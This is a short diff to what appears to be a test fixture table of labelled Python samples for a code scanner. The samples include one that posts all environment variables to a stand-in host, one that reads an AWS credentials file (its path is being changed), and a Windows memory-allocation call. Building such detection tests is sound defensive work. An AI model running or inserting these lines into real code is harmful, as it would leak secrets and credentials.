@@ -93,7 +93,7 @@ PYTHON = {
     "python/environment-sent": (
         "import os, requests\nrequests.post('https://x.example', json=dict(os.environ))\n"
     ),
-    "python/secret-file": "open('/home/x/.aws/credentials').read()\n",
+    "python/secret-file": "open('.aws/credentials').read()\n",
     "python/machine-code": "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)\n",
     "python/unread": "def broken(:\n",
 }
